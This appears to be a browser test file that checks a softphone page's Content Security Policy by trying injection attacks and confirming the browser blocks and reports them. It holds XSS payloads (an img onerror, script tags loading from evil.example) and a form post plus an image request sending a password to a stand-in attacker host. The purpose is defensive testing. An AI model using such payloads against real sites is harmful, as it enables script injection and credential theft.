// The page's Content Security Policy, tried as an attacker would who got a script of theirs into the page: what it lets in,
// and what the browser refuses and reports. That nothing else is ever refused, every other test holds (violations.mjs).

import { expect, test } from "./phone.mjs";
import { SCRIPT } from "./release.mjs";
import { takeViolations } from "./violations.mjs";

/** All of this is reported. */
async function refused(...wanted) {
  let said = "";
  await expect.poll(() => {
    said += takeViolations().join("\n");
    return wanted.filter((report) => !said.includes(report));
  }).toEqual([]);
}

test.use({ expectedErrors: [/./], expectedViolations: [/./] });

test("no text becomes a script, and no script comes from another place", async ({ crm, page, simulator }) => {
  await crm.start();
  takeViolations();
  const frame = await crm.content();
  const thrown = (name) => frame.evaluate((name) => {
    const script = document.createElement("script");
    const tries = {
      html: () => { document.body.innerHTML = "<img src=x onerror=alert(1)>"; },
      source: () => { script.src = "https://evil.example/x.js"; },
      text: () => { script.text = "window.got = true"; },
      worker: () => new Worker("data:text/javascript,0"),
      policy: () => trustedTypes.createPolicy("evil", { createScriptURL: (url) => url }),
      again: () => trustedTypes.createPolicy("cordboard", { createScriptURL: (url) => url }),
      handler: () => document.body.setAttribute("onclick", "window.got = true"),
    };
    try {
      tries[name]();
      return "done";
    } catch (error) {
      return error.name;
    }
  }, name);
  for (const name of ["html", "source", "text", "worker", "policy", "again", "handler"]) {
    expect(await thrown(name), name).toBe("TypeError");
  }
  await refused("require-trusted-types-for");

  // Markup that the server sent, as after a break-in there.
  const inline = await page.context().newPage();
  await inline.route("**/index.html", async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace("</body>", "<script>window.got = 1</script><script src=\"https://evil.example/x.js\"></script>"
      + "<style>body{color:red}</style><base href=\"https://evil.example/\"></body>");
    await route.fulfill({ response, body: html });
  });
  await inline.goto(`${simulator.softphone}/index.html`);
  await expect(inline.locator("main")).not.toHaveAttribute("data-state", "loading");
  await refused("script-src-elem inline", "script-src-elem https://evil.example/x.js", "style-src-elem inline", "base-uri");
  expect(await inline.evaluate(() => window.got)).toBeUndefined();
});

test("a form goes nowhere, and no program or picture comes from elsewhere", async ({ crm }) => {
  await crm.start();
  takeViolations();
  const frame = await crm.content();
  await frame.evaluate(() => {
    const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
    const picture = Object.assign(document.createElement("img"), { src: "https://evil.example/?password=1234" });
    document.body.append(form, picture);
    form.submit();
  });
  await refused("form-action https://evil.example", "img-src https://evil.example");
});

test("workers have the policy that came with their script", async ({ page, simulator }) => {
  for (const file of ["index.html", SCRIPT, "clock.js"]) {
    const { headers } = await page.request.get(`${simulator.softphone}/${file}`).then((got) => ({ headers: got.headers() }));
    expect(headers["content-security-policy"], file).toContain("default-src 'none'");
    expect(headers["content-security-policy"], file).toContain("frame-ancestors http://127.0.0.1");
  }
});
